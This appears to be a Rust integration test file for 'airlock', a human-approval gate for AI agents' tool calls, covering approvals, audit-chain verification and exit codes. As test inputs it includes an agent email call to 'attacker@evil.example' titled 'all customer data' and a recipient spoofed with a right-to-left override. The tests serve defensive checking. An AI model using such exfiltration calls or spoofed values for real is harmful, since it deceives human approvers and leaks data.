//! The client commands against a real `airlock serve`: agents, calls, approvals, audit,
//! and the exit codes of refusals and connection trouble.

use crate::support::{eventually, finished_output, stderr, stdout, wait_exit, KillOnDrop, Server};
use std::process::Stdio;
use std::time::Duration;

const OUTSIDE_MAIL: &str = r#"{"to":"bob@elsewhere.test","subject":"Hi","body":"Hello Bob"}"#;

/// Every call is asked; mail is previewed with its recipient and body.
const POLICY: &str = r#"version = 1
default = "ask"

[tools."email.send"]
risk = "external"
target = "to"
summary = "Send email to {to}"
body = "{body}"
"#;

/// Starts `call email.send --wait 60` as the agent and waits until its approval is listed.
fn waiting_call(server: &Server, agent_token: &str) -> (KillOnDrop, String) {
    let before = server.pending();
    let child = server
        .client_command(
            agent_token,
            &["call", "email.send", "--args", OUTSIDE_MAIL, "--wait", "60"],
        )
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut approval = None;
    eventually(
        Duration::from_secs(20),
        "the waiting call's approval",
        || {
            approval = server.pending().into_iter().find(|id| !before.contains(id));
            approval.is_some()
        },
    );
    (KillOnDrop(child), approval.unwrap())
}

#[test]
fn the_approval_loop_from_the_command_line() {
    let work = tempfile::tempdir().unwrap();
    let policy = work.path().join("policy.toml");
    std::fs::write(&policy, POLICY).unwrap();
    let server = Server::start(work.path(), &["--policy", policy.to_str().unwrap()]);
    let agent = server.create_agent("scout");
    assert!(agent.len() > 20, "token: {agent}");

    // Without --wait a pending call is not (yet) allowed: exit 1, with the way to approve.
    let output = server.client_as(&agent, &["call", "email.send", "--args", OUTSIDE_MAIL]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(text.contains("pending"), "{text}");
    assert!(text.contains("airlock approvals approve apr_"), "{text}");
    assert!(stderr(&output).contains("pending"), "{}", stderr(&output));

    // It is listed, and shown in full.
    let output = server.client(&["approvals", "list"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let listing = stdout(&output);
    assert!(listing.starts_with("ID "), "{listing}");
    assert!(
        listing.contains("Send email to bob@elsewhere.test"),
        "{listing}"
    );
    let first = server.pending().remove(0);
    assert!(listing.contains(&first), "{listing}");
    let output = server.client(&["approvals", "show", &first]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let shown = stdout(&output);
    for part in [
        "Send email to bob@elsewhere.test",
        "binding digest",
        "deadline",
        "Hello Bob",
        "\"to\"",
    ] {
        assert!(shown.contains(part), "{part} missing from:\n{shown}");
    }
    let output = server.client(&["approvals", "reject", &first, "--reason", "not now"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));

    // A waiting caller is released by the approval: exit 0.
    let (mut caller, approval) = waiting_call(&server, &agent);
    let output = server.client(&["approvals", "approve", &approval]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).contains(&format!("approved {approval}")));
    let status = wait_exit(&mut caller.0, Duration::from_secs(20));
    let (out, err) = finished_output(&mut caller.0);
    assert_eq!(status.code(), Some(0), "{out}{err}");
    assert!(out.contains("approved"), "{out}");

    // A second decision on it is refused: exit 1.
    let output = server.client(&["approvals", "reject", &approval]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output).starts_with("error: "),
        "{}",
        stderr(&output)
    );

    // A rejection reaches the waiting caller with its reason: exit 1.
    let (mut caller, approval) = waiting_call(&server, &agent);
    let output = server.client(&[
        "approvals",
        "reject",
        &approval,
        "--reason",
        "wrong recipient",
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let status = wait_exit(&mut caller.0, Duration::from_secs(20));
    let (out, err) = finished_output(&mut caller.0);
    assert_eq!(status.code(), Some(1), "{out}{err}");
    assert!(out.contains("rejected"), "{out}");

    // --latest picks the newest pending approval.
    let (mut caller, approval) = waiting_call(&server, &agent);
    let output = server.client(&["approvals", "approve", "--latest", "--reason", "fine"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).contains(&approval), "{}", stdout(&output));
    assert_eq!(
        wait_exit(&mut caller.0, Duration::from_secs(20)).code(),
        Some(0)
    );
    let output = server.client(&["approvals", "approve", "--latest"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("no pending approval"),
        "{}",
        stderr(&output)
    );

    // The person reads the newest call; another arrives before they approve: --latest
    // would approve the one nobody read, so with two pending it refuses (exit 1), names
    // both, and approves nothing.
    let output = server.client_as(&agent, &["call", "email.send", "--args", OUTSIDE_MAIL]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let read = server.pending().remove(0);
    let output = server.client(&["approvals", "show", "--latest"]);
    assert!(stdout(&output).contains(&read), "{}", stdout(&output));
    let unseen = r#"{"to":"attacker@evil.example","subject":"all customer data","body":"x"}"#;
    let output = server.client_as(&agent, &["call", "email.send", "--args", unseen]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let output = server.client(&["approvals", "approve", "--latest"]);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    let message = stderr(&output);
    assert!(
        message.contains("more than one approval is pending"),
        "{message}"
    );
    assert!(message.contains(&read), "{message}");
    let pending = server.pending();
    assert_eq!(pending.len(), 2, "{pending:?}");
    // By id it approves the one that was read.
    let output = server.client(&["approvals", "approve", &read]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let output = server.client(&["approvals", "reject", "--latest"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("attacker@evil.example"),
        "{}",
        stdout(&output)
    );

    // Agents never decide (403): exit 1.
    let output = server.client_as(&agent, &["call", "email.send", "--args", OUTSIDE_MAIL]);
    assert_eq!(output.status.code(), Some(1));
    let pending = server.pending().remove(0);
    let output = server.client_as(&agent, &["approvals", "approve", &pending]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));

    // The audit chain verifies online.
    let output = server.client(&["audit", "verify"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).starts_with("audit ok: "),
        "{}",
        stdout(&output)
    );
    let output = server.client(&["audit", "verify", "--json"]);
    let report: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert_eq!(report["ok"], true);
    assert!(report["records"].as_u64().unwrap() >= 10, "{report}");

    // And offline, on an export; a torn last line fails with exit 1.
    let export = work.path().join("audit.ndjson");
    let output = server.client(&["audit", "export", "--out", export.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let offline = |file: &std::path::Path| {
        crate::support::command(work.path())
            .args(["audit", "verify", "--file", file.to_str().unwrap()])
            .output()
            .unwrap()
    };
    let output = offline(&export);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}{}",
        stdout(&output),
        stderr(&output)
    );
    assert!(
        stdout(&output).contains(&format!("{} records", report["records"])),
        "{}",
        stdout(&output)
    );
    let text = std::fs::read_to_string(&export).unwrap();

    // Against the head the server reported, an export verifies; the same export with its
    // last record cut off at a line boundary (a chain of its own) does not.
    let head = format!(
        "{}:{}",
        report["head"]["seq"],
        report["head"]["hash"].as_str().unwrap()
    );
    let against = |file: &std::path::Path, head: &str| {
        crate::support::command(work.path())
            .args([
                "audit",
                "verify",
                "--file",
                file.to_str().unwrap(),
                "--head",
                head,
            ])
            .output()
            .unwrap()
    };
    let output = against(&export, &head);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}{}",
        stdout(&output),
        stderr(&output)
    );
    let cut = work.path().join("cut.ndjson");
    std::fs::write(&cut, &text[..text.trim_end().rfind('\n').unwrap() + 1]).unwrap();
    assert_eq!(
        offline(&cut).status.code(),
        Some(0),
        "a cut export is a chain of its own"
    );
    let output = against(&cut, &head);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    assert!(
        stdout(&output).contains("missing from its end"),
        "{}",
        stdout(&output)
    );
    // A head of another chain (right seq, wrong hash) fails; a malformed head is usage.
    let other = format!("{}:{}", report["head"]["seq"], "0".repeat(64));
    let output = against(&export, &other);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    assert!(
        stdout(&output).contains("not the expected head"),
        "{}",
        stdout(&output)
    );
    assert_eq!(against(&export, "12").status.code(), Some(2));
    // Online too: the server's chain must reach a head printed earlier (a chain whose
    // newest records were deleted, head and all, verifies on its own otherwise).
    let output = server.client(&["audit", "verify", "--head", &head]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}{}",
        stdout(&output),
        stderr(&output)
    );
    let output = server.client(&["audit", "verify", "--head", &other]);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    assert!(
        stdout(&output).contains("not the expected head"),
        "{}",
        stdout(&output)
    );
    let beyond = format!(
        "{}:{}",
        report["head"]["seq"].as_u64().unwrap() + 1000,
        "0".repeat(64)
    );
    let output = server.client(&["audit", "verify", "--head", &beyond]);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    assert!(
        stdout(&output).contains("missing from its end"),
        "{}",
        stdout(&output)
    );

    let torn = &text[..text.trim_end().rfind('\n').unwrap() + 40];
    std::fs::write(&export, torn).unwrap();
    let output = offline(&export);
    assert_eq!(output.status.code(), Some(1), "{}", stdout(&output));
    assert!(stdout(&output).contains("torn"), "{}", stdout(&output));

    // An edited record is located by its seq.
    let edited = text.replacen("bob@elsewhere.test", "eve@elsewhere.test", 1);
    std::fs::write(&export, edited).unwrap();
    let output = offline(&export);
    assert_eq!(output.status.code(), Some(1));
    assert!(
        stdout(&output).contains("first bad seq"),
        "{}",
        stdout(&output)
    );

    // The export also goes to standard output.
    let output = server.client(&["audit", "export"]);
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(stdout(&output), text);
}

#[test]
fn refusals_and_connection_trouble_have_their_exit_codes() {
    let work = tempfile::tempdir().unwrap();
    let server = Server::start(work.path(), &[]);

    // A bad token is a usage error: exit 2 with a hint.
    let output = server.client_as("not-a-token", &["approvals", "list"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("unauthorized: check --token/AIRLOCK_TOKEN"),
        "{}",
        stderr(&output)
    );

    // With no token, ./airlock-data/owner.token is used; --data-dir names another folder.
    let output = crate::support::command(work.path())
        .args([
            "approvals",
            "list",
            "--url",
            &server.url,
            "--data-dir",
            "data",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("no pending approvals"),
        "{}",
        stdout(&output)
    );

    // A duplicate agent is a refusal (409): exit 1 with the problem's title and detail.
    server.create_agent("twin");
    let output = server.client(&["agents", "create", "twin"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stderr(&output).contains("twin"), "{}", stderr(&output));
    let output = server.client(&["agents", "list"]);
    assert!(stdout(&output).contains("twin"), "{}", stdout(&output));

    // A user token cannot submit calls (403): exit 1.
    let output = server.client(&["call", "x.y", "--args", "{}"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));

    // Bad --args is a usage error.
    let output = server.client(&["call", "x.y", "--args", "[1]"]);
    assert_eq!(output.status.code(), Some(2));
    // So is a wait longer than the clock can count (it panicked: exit 101).
    let output = server.client(&["call", "x.y", "--wait", "18446744073709551615"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("too long a wait"),
        "{}",
        stderr(&output)
    );

    // Nobody listening: exit 2.
    drop(server);
    let output = crate::support::command(work.path())
        .args([
            "approvals",
            "list",
            "--url",
            "http://127.0.0.1:9",
            "--token",
            "x",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("cannot reach airlock at http://127.0.0.1:9"),
        "{}",
        stderr(&output)
    );
}

/// `airlock call --wait` outlives a restart of the server (G7 keeps the approval): its
/// polls are sent again until the wait is over, and the approval made after the restart
/// reaches it.
#[test]
fn a_waiting_call_outlives_a_restart_of_the_server() {
    let work = tempfile::tempdir().unwrap();
    let policy = work.path().join("policy.toml");
    std::fs::write(&policy, POLICY).unwrap();
    let mut server = Server::start(work.path(), &["--policy", policy.to_str().unwrap()]);
    let agent = server.create_agent("scout");
    let (mut caller, approval) = waiting_call(&server, &agent);
    server.terminate();
    server.restart();
    let output = server.client(&["approvals", "approve", &approval]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let status = wait_exit(&mut caller.0, Duration::from_secs(30));
    let (out, err) = finished_output(&mut caller.0);
    assert_eq!(status.code(), Some(0), "{out}{err}");
    assert!(out.contains("approved"), "{out}");
}

/// An ambiguous call from the command line (DESIGN.md §11.8): redeemed, its outcome never
/// reported within `outcome_timeout`; `approvals list` shows it, `approvals ambiguous`
/// lists it, and `approvals reconcile` settles it once.
#[test]
fn ambiguous_calls_are_listed_and_reconciled_from_the_command_line() {
    let work = tempfile::tempdir().unwrap();
    let policy = work.path().join("policy.toml");
    std::fs::write(
        &policy,
        "version = 1\ndefault = \"ask\"\noutcome_timeout = \"1s\"\n\n[[rules]]\ntool = \"clock.now\"\ndecision = \"allow\"\n",
    )
    .unwrap();
    let server = Server::start(work.path(), &["--policy", policy.to_str().unwrap()]);
    let agent = server.create_agent("scout");
    let output = server.client_as(&agent, &["call", "clock.now", "--json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let call: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    let id = call["id"].as_str().unwrap().to_owned();
    // Redeemed, and nobody says whether it ran.
    let redeemed = ureq::post(&format!("{}/v1/calls/{id}/redeem", server.url))
        .header("Authorization", &format!("Bearer {agent}"))
        .header("Idempotency-Key", "cli-test")
        .send_empty()
        .unwrap();
    assert_eq!(redeemed.status(), 200);

    eventually(Duration::from_secs(20), "the call turns ambiguous", || {
        let listing = stdout(&server.client(&["approvals", "list"]));
        listing.contains("ambiguous calls") && listing.contains(&id)
    });
    let output = server.client(&["approvals", "ambiguous"]);
    assert!(
        stdout(&output).contains(&format!("airlock approvals reconcile {id}")),
        "{}",
        stdout(&output)
    );

    let output = server.client(&[
        "approvals",
        "reconcile",
        &id,
        "did_not_run",
        "--reason",
        "checked",
    ]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).contains("never run"), "{}", stdout(&output));
    // Once only: a second account is refused (exit 1), and nothing is left to settle.
    let output = server.client(&["approvals", "reconcile", &id, "ran"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let output = server.client(&["approvals", "ambiguous"]);
    assert_eq!(stdout(&output).trim(), "no ambiguous calls");
}

/// A right-to-left override or a zero-width space in an argument would make the target a
/// standing rule binds to read as another (audit C, M5): `approvals show` writes them out.
#[test]
fn approvals_show_writes_out_hidden_characters() {
    let work = tempfile::tempdir().unwrap();
    let policy = work.path().join("policy.toml");
    std::fs::write(&policy, POLICY).unwrap();
    let server = Server::start(work.path(), &["--policy", policy.to_str().unwrap()]);
    let agent = server.create_agent("scout");
    let spoofed = r#"{"to":"bob@evil\u202etset.elpmaxe","body":"x\u200b"}"#;
    let output = server.client_as(&agent, &["call", "email.send", "--args", spoofed]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let approval = server.pending().remove(0);
    let output = server.client(&["approvals", "show", &approval]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let shown = stdout(&output);
    assert!(
        shown.contains("bob@evil<U+202E>tset.elpmaxe"),
        "remember target:\n{shown}"
    );
    assert!(shown.contains(r#""bob@evil\u202etset.elpmaxe""#), "{shown}");
    assert!(shown.contains(r#""x\u200b""#), "{shown}");
    assert!(!shown.contains(['\u{202e}', '\u{200b}']), "{shown}");
}
